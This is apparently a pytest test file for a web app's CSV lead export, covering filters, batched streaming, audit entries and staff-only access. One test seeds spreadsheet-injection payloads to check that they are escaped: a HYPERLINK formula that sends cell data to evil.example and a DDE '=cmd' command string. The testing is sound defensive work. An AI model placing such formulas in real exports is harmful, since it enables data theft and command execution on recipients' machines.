"""The CSV export of leads: the list's filters, safe cells, streamed in batches from its own
short sessions after the request has committed, and audited. On both databases."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import sqlalchemy as sa

from asthron.audit.models import AuditEntry
from asthron.leads.export import EXPORT_COLUMNS
from tests.leads.test_views import Member, add_lead
from tests.security.support import snapshot

UTC = dt.UTC


@pytest.fixture
def staff(app, make_user):
    return Member(app, make_user, "staff")


def parse(body: bytes) -> list[dict]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def exports(run_in_tm):
    return run_in_tm(
        lambda db: [
            (e.actor_label, e.summary)
            for e in db.scalars(
                sa.select(AuditEntry)
                .where(AuditEntry.action == "lead.export")
                .order_by(AuditEntry.id)
            )
        ]
    )


def test_cells_that_a_spreadsheet_would_run_are_escaped(staff, run_in_tm):
    add_lead(
        run_in_tm,
        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        email="evil@example.com",
        phone="+12025550143",
        company="@x",
        custom_fields={"note": "-2+3", "safe": "plain"},
        tags=["+vip"],
        utm={"utm_source": "=cmd|' /C calc'!A0"},
        source_page="\thttps://shop.example.com/",
    )
    add_lead(run_in_tm, name="\rcarriage", email="cr@example.com", company="Plain Co")
    response = staff.post("/leads/export.csv", {})
    assert response.status_int == 200
    assert response.content_type == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="asthron-leads.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    evil, carriage = parse(response.body)
    assert evil["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert evil["phone"] == "'+12025550143"
    assert evil["company"] == "'@x"
    assert evil["custom_fields"] == "note=-2+3; safe=plain"  # the cell starts with "n"
    assert evil["tags"] == "'+vip"
    assert evil["utm_source"] == "'=cmd|' /C calc'!A0"
    assert evil["source_page"] == "'\thttps://shop.example.com/"
    assert evil["email"] == "evil@example.com"
    assert carriage["name"] == "'\rcarriage"
    assert carriage["company"] == "Plain Co"
    for row in (evil, carriage):
        for column, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, value)


def test_export_uses_the_list_filters_and_is_audited(staff, run_in_tm, site):
    day = dt.datetime(2026, 3, 1, tzinfo=UTC)
    won = add_lead(
        run_in_tm,
        name="Won",
        email="won@example.com",
        status="won",
        created_at=day,
        source_site_id=site["id"],
        tags=["vip"],
    )
    add_lead(run_in_tm, name="New", email="new@example.com", status="new", created_at=day)
    add_lead(
        run_in_tm,
        name="Old won",
        email="old@example.com",
        status="won",
        created_at=day - dt.timedelta(days=30),
    )
    # The list page's export form carries the filters.
    page = staff.get("/leads", status="won", since="2026-02-15")
    assert '<input type="hidden" name="status" value="won">' in page.text
    response = staff.post("/leads/export.csv", {"status": "won", "since": "2026-02-15"})
    rows = parse(response.body)
    assert [int(r["id"]) for r in rows] == [won]
    row = rows[0]
    assert (row["status"], row["qualified"], row["site"], row["tags"]) == (
        "won",
        "no",
        "Shop",
        "vip",
    )
    assert row["created_at"] == "2026-03-01T00:00:00+00:00"
    assert exports(run_in_tm) == [
        (staff.user["email"], {"format": "csv", "rows": 1, "status": "won", "since": "2026-02-15"})
    ]
    # Search terms go through the same escaping as the list: "%" is literal.
    rows = parse(staff.post("/leads/export.csv", {"q": "%"}).body)
    assert rows == []


@pytest.mark.parametrize(
    "data",
    [
        {"status": "evil"},
        {"sort": "email"},
        {"since": "2026-13-45"},
        {"site": "abc"},
        {"q": "x" * 500},
        [("status", "won"), ("status", "new")],
    ],
)
def test_bad_export_filters_are_a_400_and_not_audited(staff, run_in_tm, registry, data):
    add_lead(run_in_tm, email="a@example.com")
    before = snapshot(registry["db_engine"], skip=("user_sessions",))
    response = staff.post("/leads/export.csv", data)
    assert response.status_int == 400
    assert "text/csv" not in response.content_type
    assert snapshot(registry["db_engine"], skip=("user_sessions",)) == before
    assert exports(run_in_tm) == []


def test_export_is_streamed_in_batches_from_its_own_sessions(
    app, staff, run_in_tm, monkeypatch, registry
):
    """The body is a generator read after the request committed; each batch opens and closes
    its own session, so a long export holds no transaction and never touches request.db."""
    from webob import Request

    from asthron.leads import export

    monkeypatch.setattr(export, "EXPORT_BATCH", 3)
    monkeypatch.setattr(export, "CSV_FLUSH_ROWS", 2)

    def many(db):
        from asthron.leads.models import Lead

        db.add_all(
            [
                Lead(name=f"Lead {i}", email=f"l{i}@example.com", tags=[], utm={}, custom_fields={})
                for i in range(10)
            ]
        )

    run_in_tm(many)
    opened = []
    factory = registry["dbsession_factory"]

    def counting_factory(*args, **kwargs):
        session = factory(*args, **kwargs)
        opened.append(session)
        return session

    monkeypatch.setitem(registry, "dbsession_factory", counting_factory)
    request = Request.blank("/leads/export.csv", method="POST", POST={"csrf_token": staff.csrf})
    request.environ.update(staff.web.extra_environ)
    request.headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in staff.web.cookies.items())
    captured = {}

    def start_response(status, headers, exc_info=None):
        captured["status"] = status

    body = app(request.environ, start_response)
    assert captured["status"].startswith("200")
    assert not isinstance(body, list | bytes)
    # The request (with its audit entry) has committed before a single row is read.
    assert [s for _a, s in exports(run_in_tm)] == [{"format": "csv", "rows": 10}]
    sessions_before = len(opened)
    chunks = list(body)
    if hasattr(body, "close"):
        body.close()
    assert len(chunks) >= 6  # the BOM, the header with two rows, then two rows at a time
    assert len(opened) - sessions_before == 5  # 4 batches of at most 3, then the empty one
    text = b"".join(chunks).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert [r[5] for r in rows[1:]] == [f"Lead {i}" for i in range(10)]


def test_a_staff_member_exports_and_an_anonymous_one_cannot(app, staff, run_in_tm):
    import webtest

    add_lead(run_in_tm, email="a@example.com")
    anonymous = webtest.TestApp(app)
    anonymous.get("/login")
    response = anonymous.post("/leads/export.csv", {}, status="*")
    assert response.status_int in (400, 401, 403)
    assert "text/csv" not in response.content_type
    assert exports(run_in_tm) == []
    assert len(parse(staff.post("/leads/export.csv", {}).body)) == 1
